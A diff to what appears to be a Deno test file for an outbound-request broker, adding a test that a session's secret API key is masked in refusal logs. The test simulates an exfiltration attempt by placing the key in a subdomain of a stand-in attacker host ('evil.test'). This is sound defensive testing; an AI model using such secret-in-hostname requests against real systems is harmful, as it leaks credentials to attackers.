@@ -1,4 +1,5 @@
 import { assert, assertEquals, assertStringIncludes } from "@std/assert";
+import { maskOf } from "../../../src/execution/environment.ts";
 import { LINES_PER_MINUTE_MAX } from "../../../src/execution/egress/record.ts";
 import { BLOCKED_PORTS } from "../../../src/execution/egress/policy.ts";
 import { errorOf, get, never, testBroker, withTcpServer, write } from "./harness.ts";
@@ -167,6 +168,18 @@ Deno.test("a flood of refusals writes few lines and tells of each", async () => 
   time = 60_000;
   await channels[0]!(get("http://10.0.0.1/"), never);
   assertEquals(lines.length, LINES_PER_MINUTE_MAX + 2);
+});
+
+Deno.test("the session's secrets are masked in what is written of a refusal", async () => {
+  const { broker, lines, refused } = testBroker({ hosts: ["api.example"] });
+  const mask = maskOf({ API_KEY: "Sk-5F1c0ffee" });
+  const channel = broker.open("weather", { mask });
+  const outcome = await channel(get("http://sk-5f1c0ffee.evil.test/"), never);
+  assert(outcome.kind === "error");
+  // The code itself knows what it asked for.
+  assertStringIncludes(outcome.message, "sk-5f1c0ffee.evil.test");
+  assertEquals(refused[0]!.target, "[API_KEY].evil.test:80");
+  assert(!JSON.stringify([lines, refused]).toLowerCase().includes("sk-5f1c0ffee"));
 });
 
 Deno.test("a request over a limit is told of like a refused one", async () => {
